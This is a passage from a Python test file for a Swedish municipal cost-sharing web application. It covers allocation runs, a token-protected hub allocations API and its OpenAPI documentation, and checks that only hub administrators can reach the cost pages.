            {"p": pool.id, "t": region.id},
        )
        session.commit()
    page = unescape(run_period(client, navet, period).text)
    assert "Befolkning: Region Värmland och Arvika kommun kan inte dela efter folkmängd" in page
    with app.app_context(), maintenance_session() as session:
        assert not session.scalars(
            sa.select(AllocationRun).where(AllocationRun.period == period)
        ).all()


# -- the API -------------------------------------------------------------------------------


def test_the_allocations_api_answers_a_hub_token_only(app, client, openapi, a_run, period):
    assert create(app, "anna@arvika.example").exit_code == 0
    assert create(app, "kalle@karlstad.example", tenant="karlstad").exit_code == 0
    hub = bearer(token_of(app, NAVET, tenant="karlstad"))
    url = f"/api/v1/hub/allocations/{period}"
    path = "/api/v1/hub/allocations/{period}"
    outcomes = {
        200: client.get(url, headers=hub),
        401: client.get(url),
        404: client.get(url, headers=bearer(token_of(app, "anna@arvika.example"))),
        422: client.get("/api/v1/hub/allocations/i-fjol", headers=hub),
    }
    for status, response in outcomes.items():
        assert response.status_code == status, (status, response.get_json())
        assert_documented(openapi, path, "get", response)
    # A case worker's token at Karlstad is Karlstad's, not the hub's; no run yet is 404 too.
    worker = bearer(token_of(app, "kalle@karlstad.example", tenant="karlstad"))
    assert client.get(url, headers=worker).status_code == 404
    # And the hub's token is the hub's: it opens none of Karlstad's own cases.
    assert client.get("/api/v1/tenants/karlstad/cases", headers=hub).status_code == 404
    nothing = client.get("/api/v1/hub/allocations/2099-12", headers=hub)
    assert nothing.status_code == 404 and "2099-12" in nothing.get_json()["message"]
    assert set(openapi["paths"][path]["get"]["responses"]) == {"200", "401", "404", "422"}
    assert openapi["components"]["securitySchemes"]["hubToken"]["scheme"] == "bearer"

    body = outcomes[200].get_json()
    assert (body["run"], body["period"], body["pools_changed"]) == (a_run, period, False)
    assert [p["name"] for p in body["pools"]] == ["Drift", "Utveckling"]
    for pool in body["pools"]:
        assert sum(s["amount_ore"] for s in pool["shares"]) == pool["amount_ore"]
    utveckling = body["pools"][1]
    assert utveckling["key"]["kind"] == "population"
    karlstad = next(s for s in utveckling["shares"] if s["member"] == "karlstad")
    assert karlstad == {
        "member": "karlstad",
        "name": "Karlstads kommun",
        "numerator": 32411,  # 97 233 / 283 548, reduced
        "denominator": 94516,
        "amount_ore": 34_291_548,
    }


# -- who may use the pages -----------------------------------------------------------------


def cost_routes(app):
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/hub/kostnader"):
            for method in rule.methods - {"HEAD", "OPTIONS"}:
                url = (
                    rule.rule.replace("<int:pool_id>", "1")
                    .replace("<int:run_id>", "1")
                    .replace("<slug:member>", "arvika")
                )
                yield method, url


@pytest.mark.parametrize(
    ("email", "tenant", "role"),
    [
        ("admin@arvika.example", "arvika", "tenant_admin"),
        ("admin@karlstad.example", "karlstad", "tenant_admin"),
        ("kontakt@karlstad.example", "karlstad", "contact_centre"),
    ],
)
def test_nobody_but_the_hubs_administrators_opens_a_cost_page(
    app, client, read_csrf, email, tenant, role
):
    assert create(app, email, tenant=tenant, role=role).exit_code == 0
    assert sign_in(client, read_csrf, email, tenant=tenant).status_code == 303
    csrf = read_csrf(client.get("/hub/" if role == "contact_centre" else f"/{tenant}/staff/").text)
    routes = list(cost_routes(app))
    assert len(routes) >= 12
    for method, url in routes:
        response = client.open(url, method=method, data={"csrf_token": csrf})
        assert response.status_code == 404, (method, url, response.status_code)
    home = client.get("/hub/") if role == "contact_centre" else None
    assert home is None or "Kostnader" not in home.text
